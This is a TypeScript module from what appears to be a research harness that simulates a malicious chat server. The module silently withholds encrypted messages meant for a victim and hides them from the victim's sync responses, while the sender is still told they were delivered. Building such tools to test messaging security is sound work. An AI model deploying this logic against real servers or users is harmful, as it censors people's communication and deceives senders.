/** Keeps messages for the victim back. Who sent them is told that they have been delivered. */
import { isVictim, objectOf, type WireRequest, type Attack, type AttackOptions, type Memory } from "./attack.ts";
import { isVictimsSync, newMessages, withEvents } from "./sync.ts";

/** What was kept back once is kept back for good; so is what was sent meanwhile and has not yet been told of. */
export function dropMessages(
  { userOf }: Pick<AttackOptions, "userOf">,
  /** Ids of events that were kept back. */
  memory: Memory<readonly string[]>,
): Attack {
  return {
    async answer(request, answer, on) {
      const sent = objectOf(answer)["event_id"];
      if (on && isSending(request) && typeof sent === "string") await memory.set([...memory.value, sent]);
      if (!isVictimsSync(request)) return undefined;
      if (on) {
        const news = newMessages(request, answer, userOf(request.device));
        if (news.length > 0) await memory.set([...memory.value, ...news.map((event) => event.event_id)]);
      }
      return withEvents(answer, (event) => (memory.value.includes(event.event_id) ? [] : [event]));
    },
  };
}

function isSending(request: WireRequest): boolean {
  return !isVictim(request) && request.path.includes("/send/m.room.encrypted/");
}
